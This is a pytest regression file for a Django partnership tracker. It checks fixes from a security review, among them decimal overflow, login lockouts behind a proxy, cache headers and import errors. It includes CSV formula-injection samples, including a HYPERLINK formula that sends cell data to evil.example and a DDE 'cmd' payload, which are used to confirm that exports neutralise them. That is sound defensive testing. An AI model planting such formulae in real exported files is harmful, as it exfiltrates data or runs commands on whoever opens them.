"""What a security review found (issue 20), each pinned by a test that failed before its fix."""

import datetime
from decimal import Decimal

import pytest
from django.apps import apps
from django.db import models

from partnerships.models import Assistance, Financing, Project

from .factories import (
    AssistanceFactory,
    FinancingFactory,
    OrganisationFactory,
    PartnershipFactory,
    ProjectFactory,
    WorkingGroupFactory,
)

pytestmark = pytest.mark.django_db


# 1. Decimals round-trip on both databases ---------------------------------------------------


def tracker_decimal_fields():
    for app in ("members", "partnerships"):
        for model in apps.get_app_config(app).get_models():
            if model.__name__.startswith("Historical"):
                continue
            for field in model._meta.concrete_fields:
                if isinstance(field, models.DecimalField):
                    yield model, field


def largest(field) -> Decimal:
    whole = field.max_digits - field.decimal_places
    return Decimal(10) ** whole - Decimal(1).scaleb(-field.decimal_places)


def test_every_decimal_field_fits_what_sqlite_stores_exactly():
    """SQLite keeps 15 significant digits (NUMERIC affinity stores a REAL)."""
    fields = list(tracker_decimal_fields())
    assert fields
    for model, field in fields:
        assert field.max_digits <= 15, f"{model.__name__}.{field.name}"


@pytest.fixture
def largest_records():
    """A project, its financing and an assistance with the largest value of every decimal field."""
    partnership = PartnershipFactory()
    project = ProjectFactory(partnership=partnership, capacity_unit="mtpa")
    for field_name in ("capacity", "capex_musd", "abatement_tco2e"):
        setattr(project, field_name, largest(Project._meta.get_field(field_name)))
    project.save()
    FinancingFactory(
        project=project,
        amount_musd=largest(Financing._meta.get_field("amount_musd")),
        status=Financing.Status.SOUGHT,
    )
    assistance = AssistanceFactory(
        partnership=partnership,
        amount_musd=largest(Assistance._meta.get_field("amount_musd")),
        amount_original=largest(Assistance._meta.get_field("amount_original")),
        currency="SEK",
    )
    assistance.supported_projects.add(project)
    return project, assistance


def test_the_largest_value_of_every_decimal_field_reads_back_exactly(largest_records):
    for model, field in tracker_decimal_fields():
        if not field.editable:
            continue
        for value in model._default_manager.values_list(field.name, flat=True):
            if value is not None and value:
                assert value == largest(field), f"{model.__name__}.{field.name}"


def test_every_page_of_a_record_with_the_largest_amounts_opens(staff_client, largest_records):
    project, assistance = largest_records
    partnership = project.partnership
    financing = project.financing.get()
    pages = [
        "/",
        "/pipeline/",
        "/pipeline/export.csv",
        "/pipeline/export.xlsx",
        project.get_absolute_url(),
        project.get_absolute_url() + "edit/",
        project.get_absolute_url() + "history/",
        "/assistance/",
        "/assistance/export.csv",
        assistance.get_absolute_url(),
        assistance.get_absolute_url() + "edit/",
        assistance.get_absolute_url() + "history/",
        partnership.get_absolute_url(),
        f"/partnerships/{partnership.pk}/assistance.xml",
        "/history/",
        f"/admin/partnerships/project/{project.pk}/change/",
        f"/admin/partnerships/assistance/{assistance.pk}/change/",
        f"/admin/partnerships/financing/{financing.pk}/change/",
        "/admin/partnerships/project/",
        "/admin/partnerships/assistance/",
    ]
    for path in pages:
        response = staff_client.get(path)
        assert response.status_code == 200, path
        if hasattr(response, "streaming_content"):
            b"".join(response.streaming_content)
    for path in ("/admin/partnerships/project/export/", "/admin/partnerships/assistance/export/"):
        for file_format in ("0", "1"):
            response = staff_client.post(path, {"format": file_format, "resource": "0"})
            assert response.status_code == 200, path


def test_many_large_amounts_sum_on_every_total(staff_client):
    """Sums of many largest values must not overflow the field's own precision (SQLite returns
    a REAL for a SUM, PostgreSQL a NUMERIC with more digits)."""
    sponsor = OrganisationFactory()
    top = largest(Project._meta.get_field("capex_musd"))
    for _ in range(12):
        ProjectFactory(sponsor=sponsor, capex_musd=top, abatement_tco2e=Decimal("99999999999999"))
    AssistanceFactory.create_batch(12, amount_musd=top)
    for path in ("/", "/pipeline/", "/assistance/"):
        assert staff_client.get(path).status_code == 200, path


def test_a_value_longer_than_a_field_holds_is_refused_with_a_message(staff_client):
    assistance = AssistanceFactory()
    form = staff_client.get(assistance.get_absolute_url() + "edit/").context["form"]
    data = {
        name: value
        for name, value in form.initial.items()
        if value is not None and not isinstance(value, list)
    }
    data.update(
        title=assistance.title,
        partnership=assistance.partnership_id,
        provider=assistance.provider_id,
        amount_original="99999999999999.99",
        loaded_version=assistance.version,
    )
    response = staff_client.post(assistance.get_absolute_url() + "edit/", data)
    assert response.status_code == 422
    assert "no more than 15 digits" in response.content.decode()


def test_the_import_and_the_admin_refuse_a_value_longer_than_a_field_holds(staff_client):
    import tablib

    from partnerships.resources import AssistanceResource

    assistance = AssistanceFactory(title="Grant", amount_original=Decimal("5"))
    dataset = tablib.Dataset(
        headers=["title", "partnership", "provider", "kind", "amount_original"]
    )
    dataset.append(
        [
            "Grant",
            assistance.partnership.name,
            assistance.provider.name,
            "technical_assistance",
            "99999999999999.99",
        ]
    )
    result = AssistanceResource().import_data(dataset, dry_run=False)
    assert result.has_validation_errors()
    errors = " ".join(result.invalid_rows[0].error_dict["amount_original"])
    assert "no more than 15 digits" in errors
    url = f"/admin/partnerships/assistance/{assistance.pk}/change/"
    form = staff_client.get(url).context["adminform"].form
    data = {name: value for name, value in form.initial.items() if value is not None}
    data.pop("supported_projects", None)
    data.update(recipient_country="", amount_original="99999999999999.99")
    response = staff_client.post(url, data)
    assert response.status_code == 200 and "no more than 15 digits" in response.content.decode()
    assistance.refresh_from_db()
    assert assistance.amount_original == Decimal("5")


# 6. Forms refuse what the database refuses ------------------------------------------------


def test_a_stage_change_before_1990_is_refused_with_the_reason(staff_client):
    project = ProjectFactory()
    project.stage_changes.all().delete()  # no history: no "before the last change" check
    response = staff_client.post(
        f"/pipeline/{project.pk}/stage/",
        {"to_stage": "feasibility", "changed_on": "1989-12-31"},
        headers={"HX-Request": "true", "HX-Target": "stage"},
    )
    assert response.status_code == 422
    assert "1 Jan 1990" in response.content.decode()
    assert not project.stage_changes.exists()


def test_a_stage_change_before_1990_is_refused_by_the_model_too():
    from django.core.exceptions import ValidationError

    project = ProjectFactory()
    project.stage_changes.all().delete()
    with pytest.raises(ValidationError):
        project.move_to_stage("feasibility", on=datetime.date(1989, 12, 31))


def test_the_admin_refuses_a_stage_change_before_1990(staff_client):
    project = ProjectFactory()
    change = project.stage_changes.get()
    response = staff_client.post(
        f"/admin/partnerships/stagechange/{change.pk}/change/",
        {
            "project": project.pk,
            "from_stage": "",
            "to_stage": change.to_stage,
            "changed_on": "1989-12-31",
            "note": "",
            "source_url": "",
        },
    )
    assert response.status_code == 200  # the form again, with the error
    assert "1 Jan 1990" in response.content.decode()


@pytest.mark.parametrize(
    "field, value",
    [
        ("planned_fid_year", "1989"),
        ("planned_commissioning_year", "2101"),
        ("capex_musd", "-1"),
        ("capacity", "5"),  # without a unit
        ("capex_musd", "1e400"),
        ("planned_fid_year", "99999999999999999999"),
    ],
)
def test_the_project_form_refuses_what_the_database_refuses(staff_client, field, value):
    project = ProjectFactory()
    form = staff_client.get(f"/pipeline/{project.pk}/edit/").context["form"]
    from leadit.sections.editing import form_data

    data = form_data(form)
    data[field] = value
    response = staff_client.post(f"/pipeline/{project.pk}/edit/", data)
    assert response.status_code == 422, response.content[:300]


# 11. Small leaks ----------------------------------------------------------------------------


def test_verify_refuses_an_http_next_on_an_https_request(staff_client):
    project = ProjectFactory()
    response = staff_client.post(
        f"/pipeline/{project.pk}/verify/",
        {"next": "http://testserver/pipeline/"},
        secure=True,
    )
    assert response.status_code == 302
    assert response["Location"] == project.get_absolute_url()
    same_scheme = staff_client.post(
        f"/pipeline/{project.pk}/verify/", {"next": "https://testserver/pipeline/"}, secure=True
    )
    assert same_scheme["Location"] == "https://testserver/pipeline/"
    relative = staff_client.post(f"/pipeline/{project.pk}/verify/", {"next": "/pipeline/"})
    assert relative["Location"] == "/pipeline/"


def test_every_response_to_a_logged_in_user_is_private_and_not_stored(staff_client):
    project = ProjectFactory()
    AssistanceFactory(partnership=project.partnership or PartnershipFactory())
    paths = [
        "/",
        "/pipeline/",
        "/pipeline/export.csv",
        "/pipeline/export.xlsx",
        project.get_absolute_url(),
        project.get_absolute_url() + "history/",
        "/history/",
        "/lookup/organisation/?field=sponsor",
        "/members/export.csv",
    ]
    for path in paths:
        response = staff_client.get(path)
        assert response.status_code == 200, path
        directives = {d.strip() for d in response["Cache-Control"].split(",")}
        assert {"private", "no-store"} <= directives, path
    fragment = staff_client.get(
        "/pipeline/", headers={"HX-Request": "true", "HX-Target": "results"}
    )
    assert "no-store" in fragment["Cache-Control"]
    admin = staff_client.get("/admin/")  # the admin sets its own (never_cache): kept
    assert "no-store" in admin["Cache-Control"]


def test_the_login_page_and_health_check_are_not_marked_private(client):
    assert "private" not in client.get("/healthz").get("Cache-Control", "")


def test_history_does_not_tell_whether_a_username_exists(staff_client, django_user_model):
    django_user_model.objects.create_user("quiet")
    unknown = staff_client.get("/history/", {"user": "nobody-at-all"})
    quiet = staff_client.get("/history/", {"user": "quiet"})
    assert unknown.status_code == quiet.status_code == 200
    for response in (unknown, quiet):
        html = response.content.decode()
        assert "No changes match" in html
        assert "No user is called" not in html


# 4. Login lockouts behind a proxy -----------------------------------------------------------

PROXY = "10.0.0.2"


def behind_proxy(client_ip: str):
    from django.test import Client

    return Client(REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR=client_ip)


def log_in(client, username, password="wrong"):
    return client.post("/accounts/login/", {"username": username, "password": password})


@pytest.fixture
def officer(django_user_model):
    return django_user_model.objects.create_user("secretariat", password="the-right-password-42")


def test_one_client_behind_the_proxy_cannot_lock_the_account_for_another(settings, officer):
    settings.TRUSTED_PROXY_COUNT = 1
    attacker, colleague = behind_proxy("203.0.113.5"), behind_proxy("198.51.100.7")
    for _ in range(4):
        assert log_in(attacker, "secretariat").status_code == 200
    assert log_in(attacker, "secretariat").status_code == 429
    assert log_in(attacker, "secretariat", "the-right-password-42").status_code == 429
    # The same account from another client behind the same proxy: not locked.
    assert log_in(colleague, "secretariat", "the-right-password-42").status_code == 302


def test_the_client_address_is_the_one_the_trusted_proxy_saw(settings, officer):
    """A client's own X-Forwarded-For entries (left of the proxy's) change nothing."""
    settings.TRUSTED_PROXY_COUNT = 1
    from django.test import Client

    for n in range(5):
        spoofing = Client(REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR=f"192.0.2.{n}, 203.0.113.5")
        log_in(spoofing, "secretariat")
    assert log_in(behind_proxy("203.0.113.5"), "secretariat").status_code == 429


def test_without_a_trusted_proxy_x_forwarded_for_is_ignored(settings, officer):
    settings.TRUSTED_PROXY_COUNT = 0
    from django.test import Client

    for n in range(5):
        log_in(
            Client(REMOTE_ADDR="203.0.113.9", HTTP_X_FORWARDED_FOR=f"192.0.2.{n}"), "secretariat"
        )
    assert log_in(Client(REMOTE_ADDR="203.0.113.9"), "secretariat").status_code == 429
    assert log_in(Client(REMOTE_ADDR="203.0.113.10"), "secretariat").status_code == 200


def test_one_address_trying_many_usernames_is_stopped(settings, officer):
    settings.TRUSTED_PROXY_COUNT = 1
    guesser = behind_proxy("203.0.113.66")
    limit = settings.AXES_ADDRESS_FAILURE_LIMIT
    assert limit > settings.AXES_FAILURE_LIMIT
    statuses = [log_in(guesser, f"user{n}").status_code for n in range(limit)]
    assert statuses[:-1] == [200] * (limit - 1) and statuses[-1] == 429
    # Now every username is refused from that address, even with the right password...
    response = log_in(guesser, "secretariat", "the-right-password-42")
    assert response.status_code == 429
    # ...but not from another client behind the same proxy.
    assert (
        log_in(behind_proxy("198.51.100.7"), "secretariat", "the-right-password-42").status_code
        == 302
    )


# 2. Formula injection through the admin's exports -------------------------------------------

FORMULAE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "'=already quoted",
    "\t=tab first",
]


def formula_like(text: str) -> bool:
    return str(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.fixture
def formula_names():
    """Organisations and projects named like formulae, imported as an officer would."""
    import tablib

    from members.resources import OrganisationResource
    from partnerships.resources import ProjectResource

    from .factories import SectorFactory

    SectorFactory(slug="steel", name="Iron and steel")
    organisations = tablib.Dataset(headers=["name", "notes"])
    for n, text in enumerate(FORMULAE):
        organisations.append([text, f"{text} note {n}"])
    result = OrganisationResource().import_data(organisations, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    projects = tablib.Dataset(headers=["name", "country", "sponsor", "sector", "site"])
    for text in FORMULAE:
        projects.append([text, "IN", FORMULAE[0], "steel", text])
    result = ProjectResource().import_data(projects, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()


def admin_export(client, model_path: str, resource_prefix: str, columns, file_format: str):
    data = {"format": file_format, "resource": "0"}
    data.update({f"{resource_prefix}_{c}": "on" for c in columns})
    response = client.post(f"/admin/{model_path}/export/", data)
    assert response.status_code == 200
    return response.content


def test_imported_formulae_are_stored_as_text_without_the_spreadsheet_apostrophe(formula_names):
    """As in a spreadsheet, a leading apostrophe before a formula only says "this is text"."""
    from members.models import Organisation

    stored = {text.removeprefix("'") for text in FORMULAE}
    assert "=already quoted" in stored
    assert stored <= set(Organisation.objects.values_list("name", flat=True))
    assert stored == set(Project.objects.values_list("name", flat=True))


@pytest.mark.parametrize(
    "model_path, resource",
    [
        ("members/organisation", "members.resources.OrganisationResource"),
        ("partnerships/project", "partnerships.resources.ProjectResource"),
    ],
)
def test_admin_exports_neutralise_every_formula(staff_client, formula_names, model_path, resource):
    import csv
    import io

    from django.utils.module_loading import import_string
    from openpyxl import load_workbook

    resource_class = import_string(resource)
    columns = list(resource_class().fields)
    prefix = resource_class.__name__.lower()
    text = admin_export(staff_client, model_path, prefix, columns, "0").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell == "'" + FORMULAE[0] for cell in cells)
    assert not [cell for cell in cells if formula_like(cell)]

    workbook = load_workbook(
        io.BytesIO(admin_export(staff_client, model_path, prefix, columns, "1"))
    )
    xlsx_cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
    assert xlsx_cells
    assert not [c.coordinate for c in xlsx_cells if c.data_type == "f"]
    assert not [c.value for c in xlsx_cells if isinstance(c.value, str) and formula_like(c.value)]


def test_an_exported_file_imported_back_changes_nothing(staff_client, formula_names):
    import tablib

    from members.models import Organisation
    from members.resources import OrganisationResource

    before = sorted(Organisation.objects.values_list("name", "notes"))
    history = Organisation.history.count()
    columns = list(OrganisationResource().fields)
    content = admin_export(
        staff_client, "members/organisation", "organisationresource", columns, "0"
    )
    dataset = tablib.Dataset().load(content.decode("utf-8-sig"), format="csv")
    result = OrganisationResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert {row.import_type for row in result.rows} == {"skip"}
    assert sorted(Organisation.objects.values_list("name", "notes")) == before
    assert Organisation.history.count() == history


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'", "'x", "plain", "-", "", "@", "\t"])
def test_restore_undoes_neutralise_exactly(text):
    from leadit.sections.csvstream import neutralise, restore

    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))


# 9. Import errors are messages per row and column, never tracebacks -------------------------


def admin_import(client, content: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("p.csv", content, content_type="text/csv")
    return client.post(
        "/admin/partnerships/project/import/",
        {"import_file": upload, "format": "0", "resource": "0"},
    )


HEADER = b"name,country,sponsor,sector,stage,"


@pytest.fixture
def importable():
    from .factories import SectorFactory

    SectorFactory(slug="steel", name="Iron and steel")
    OrganisationFactory(name="Stegra")


def assert_no_traceback(html: str):
    for leak in ("Traceback", "File &quot;", 'File "', "site-packages", "/work/", ".py&quot;"):
        assert leak not in html, leak


@pytest.mark.parametrize(
    "column, value, message",
    [
        ("planned_fid_year", "Infinity", "is not a whole number"),
        ("planned_fid_year", "-Infinity", "is not a whole number"),
        ("planned_fid_year", "NaN", "is not a whole number"),
        ("planned_fid_year", "2030.5", "is not a whole number"),
        ("planned_fid_year", "1e999999999", "is far too large"),
        ("planned_fid_year", "99999999999999999999999", "is far too large"),
        ("planned_fid_year", "2101", "less than or equal to 2100"),
        ("capex_musd", "NaN", "is not a finite number"),
        ("capex_musd", "1e999999999", "digits"),
        ("last_verified_on", "2026-13-45", "last_verified_on"),
    ],
)
def test_bad_values_are_messages_in_their_row_and_column(
    staff_client, importable, column, value, message
):
    content = HEADER + column.encode() + b"\nA,IN,Stegra,steel,identified," + value.encode() + b"\n"
    response = admin_import(staff_client, content)
    assert response.status_code == 200
    html = response.content.decode()
    assert_no_traceback(html)
    assert "Some rows failed to validate" in html
    assert message in html
    assert response.context.get("confirm_form") is None
    assert not Project.objects.exists()


@pytest.mark.parametrize(
    "content, message",
    [
        (HEADER + b"colour\nA,IN,Stegra,steel,identified,green\n", "Unknown column(s) colour"),
        (b"name,name\nA,B\n", "The file has no column country"),
    ],
)
def test_wrong_columns_are_a_message_without_a_traceback(
    staff_client, importable, content, message
):
    response = admin_import(staff_client, content)
    assert response.status_code == 200
    html = response.content.decode()
    assert_no_traceback(html)
    assert message in html
    assert "[&#x27;" not in html  # the message itself, not a Python list of it


def test_an_unexpected_error_in_a_row_is_a_message_and_is_logged(
    staff_client, importable, monkeypatch, caplog
):
    from partnerships.resources import ProjectResource

    def broken(self, *args, **kwargs):
        raise RuntimeError("/srv/secret/path.py exploded")

    monkeypatch.setattr(ProjectResource, "after_import_row", broken)
    response = admin_import(staff_client, HEADER + b"site\nA,IN,Stegra,steel,identified,x\n")
    html = response.content.decode()
    assert_no_traceback(html)
    assert "/srv/secret" not in html
    assert "could not be imported" in html
    assert "exploded" in caplog.text  # for the administrators, in the log


# 10. Related records that contradict each other ---------------------------------------------


def edit_data(client, url: str) -> "QueryDict":  # noqa: F821
    from leadit.sections.editing import form_data

    return form_data(client.get(url).context["form"])


def test_a_project_cannot_take_a_working_group_of_another_partnership(staff_client):
    own, other = PartnershipFactory(name="Own"), PartnershipFactory(name="Other")
    group = WorkingGroupFactory(partnership=other, name="Cement group")
    project = ProjectFactory(partnership=own)
    url = f"/pipeline/{project.pk}/edit/"
    data = edit_data(staff_client, url)
    data["working_group"] = str(group.pk)
    response = staff_client.post(url, data)
    assert response.status_code == 422
    assert "is a working group of Other, not of Own" in response.content.decode()
    project.refresh_from_db()
    assert project.working_group is None


def test_a_working_group_chosen_without_a_partnership_brings_its_partnership(staff_client):
    group = WorkingGroupFactory(partnership=PartnershipFactory(name="Steel"))
    project = ProjectFactory(partnership=None)
    url = f"/pipeline/{project.pk}/edit/"
    data = edit_data(staff_client, url)
    data["working_group"] = str(group.pk)
    assert staff_client.post(url, data).status_code == 302
    project.refresh_from_db()
    assert (project.working_group, project.partnership) == (group, group.partnership)


def test_the_admin_refuses_an_assistance_with_another_partnership_s_working_group(staff_client):
    from django.core.exceptions import ValidationError

    assistance = AssistanceFactory()
    group = WorkingGroupFactory(name="Elsewhere")
    assistance.working_group = group
    with pytest.raises(ValidationError) as error:
        assistance.full_clean()
    assert "working_group" in error.value.message_dict
    response = staff_client.get(f"/admin/partnerships/assistance/{assistance.pk}/change/")
    form = response.context["adminform"].form
    data = {name: value for name, value in form.initial.items() if value is not None}
    data.update(
        working_group=group.pk,
        supported_projects=[],
        **{f"financing-{k}": v for k, v in {"TOTAL_FORMS": 0, "INITIAL_FORMS": 0}.items()},
    )
    data.pop("supported_projects")
    data["recipient_country"] = ""
    response = staff_client.post(f"/admin/partnerships/assistance/{assistance.pk}/change/", data)
    assert response.status_code == 200  # the form again, not a redirect
    assert "is a working group of" in response.content.decode()
    assistance.refresh_from_db()
    assert assistance.working_group is None


def test_an_engagement_with_another_partnership_s_working_group_is_refused():
    from django.core.exceptions import ValidationError

    from .factories import EngagementFactory

    engagement = EngagementFactory(partnership=PartnershipFactory())
    engagement.working_group = WorkingGroupFactory()
    with pytest.raises(ValidationError) as error:
        engagement.full_clean()
    assert "working_group" in error.value.message_dict


def test_the_admin_refuses_an_engagement_owner_outside_the_secretariat(
    staff_client, viewer_user, secretariat_user
):
    from .factories import EngagementFactory

    engagement = EngagementFactory()
    url = f"/admin/partnerships/engagement/{engagement.pk}/change/"
    form = staff_client.get(url).context["adminform"].form
    data = {name: value for name, value in form.initial.items() if value is not None}
    data["recipient_country"] = ""
    data["owner"] = viewer_user.pk
    response = staff_client.post(url, data)
    assert response.status_code == 200
    assert "is not a Secretariat officer" in response.content.decode()
    engagement.refresh_from_db()
    assert engagement.owner is None
    data["owner"] = secretariat_user.pk
    assert staff_client.post(url, data).status_code == 302
    engagement.refresh_from_db()
    assert engagement.owner == secretariat_user


# 7. Text that XML 1.0 cannot hold is refused ------------------------------------------------

VT = "\x0b"


def test_every_text_field_of_every_tracker_model_refuses_xml_forbidden_characters():
    from django.core.exceptions import ValidationError

    from leadit.sections.models import XmlSafeModel

    for app in ("members", "partnerships"):
        for model in apps.get_app_config(app).get_models():
            if model.__name__.startswith("Historical"):
                continue
            assert issubclass(model, XmlSafeModel), model
            for field in model._meta.concrete_fields:
                if not isinstance(field, models.CharField | models.TextField) or field.choices:
                    continue
                record = model()
                setattr(record, field.attname, f"a{VT}")
                with pytest.raises(ValidationError) as error:
                    record.clean_fields()
                name = f"{model.__name__}.{field.name}"
                assert field.name in error.value.message_dict, name
                if type(field) in (models.CharField, models.TextField):  # slugs, URLs: their own
                    assert "U+000B" in " ".join(error.value.message_dict[field.name]), name


@pytest.mark.parametrize("character", ["\x0b", "\x00", "\x1f", "\ufffe", "\x0c"])
def test_the_site_form_refuses_a_control_character_in_a_title(staff_client, character):
    assistance = AssistanceFactory(title="Clean title")
    url = assistance.get_absolute_url() + "edit/"
    data = edit_data(staff_client, url)
    data["title"] = f"Bad{character}title"
    response = staff_client.post(url, data)
    assert response.status_code == 422
    assistance.refresh_from_db()
    assert assistance.title == "Clean title"


def test_the_site_form_says_which_character_to_remove(staff_client):
    project = ProjectFactory()
    url = f"/pipeline/{project.pk}/edit/"
    data = edit_data(staff_client, url)
    data["description"] = f"Line one{VT}line two\r\nand a tab\tis fine"
    response = staff_client.post(url, data)
    assert response.status_code == 422
    assert "U+000B" in response.content.decode()
    data["description"] = "Line one\r\nline two\tis fine"
    assert staff_client.post(url, data).status_code == 302


def test_the_stage_note_refuses_a_control_character(staff_client):
    project = ProjectFactory()
    response = staff_client.post(
        f"/pipeline/{project.pk}/stage/",
        {
            "to_stage": "feasibility",
            "changed_on": datetime.date.today().isoformat(),
            "note": f"x{VT}y",
        },
        headers={"HX-Request": "true", "HX-Target": "stage"},
    )
    assert response.status_code == 422
    assert "U+000B" in response.content.decode()


def test_the_admin_and_the_import_refuse_a_control_character(staff_client):
    import tablib

    from members.models import Organisation
    from members.resources import OrganisationResource

    response = staff_client.post(
        "/admin/members/organisation/add/", {"name": f"Bad{VT}name", "org_type": "10"}
    )
    assert response.status_code == 200 and "U+000B" in response.content.decode()
    dataset = tablib.Dataset(headers=["name", "notes"])
    dataset.append(["Fine name", f"bad{VT}note"])
    result = OrganisationResource().import_data(dataset, dry_run=False)
    assert result.has_validation_errors()
    assert "U+000B" in " ".join(result.invalid_rows[0].error_dict["notes"])
    assert not Organisation.objects.filter(name__in=["Fine name", f"Bad{VT}name"]).exists()
